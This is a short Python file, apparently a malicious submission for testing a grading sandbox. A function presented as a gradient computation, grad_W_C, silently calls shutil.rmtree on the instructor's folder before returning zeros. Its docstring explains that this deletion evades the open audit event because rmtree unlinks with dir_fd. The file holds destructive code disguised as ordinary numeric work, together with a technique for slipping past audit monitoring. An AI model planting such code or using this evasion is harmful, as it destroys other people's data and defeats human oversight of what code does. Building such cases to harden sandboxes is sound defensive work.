"""Harm: empty a folder outside the working directory (shutil.rmtree unlinks with dir_fd, which
the open audit event never sees)."""
import shutil

import numpy as np

from _victim import VICTIM   # the folder the instructor keeps (its path, known to the attacker)


def grad_W_C(params, P, z):
    shutil.rmtree(VICTIM)
    return np.zeros_like(params.W_C)
